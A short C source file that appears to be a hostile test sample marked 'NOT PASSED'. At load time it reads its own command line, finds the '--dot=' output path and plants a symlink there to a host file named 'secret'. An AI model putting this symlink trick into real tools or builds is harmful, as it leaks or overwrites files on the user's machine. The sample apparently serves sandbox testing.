// SPDX-License-Identifier: GPL-2.0
/*
 * A link to a file of the host's, in the place of the drawing of DOT=file.
 *
 * verdict: NOT PASSED
 */
#include "host.h"

static char line[4000];

static void link_drawing(void)
{
	static const char option[] = "--dot=";
	long fd = host(2, (long)"/proc/self/cmdline", 0, 0);
	long n = host(0, fd, (long)line, sizeof(line) - 1), i, j;

	for (i = 0; i < n; i++) {
		for (j = 0; option[j] && line[i + j] == option[j]; j++)
			;
		if (!option[j])
			host(88, (long)secret, (long)(line + i + j), 0);
	}
}

AT_ONCE(link_drawing())
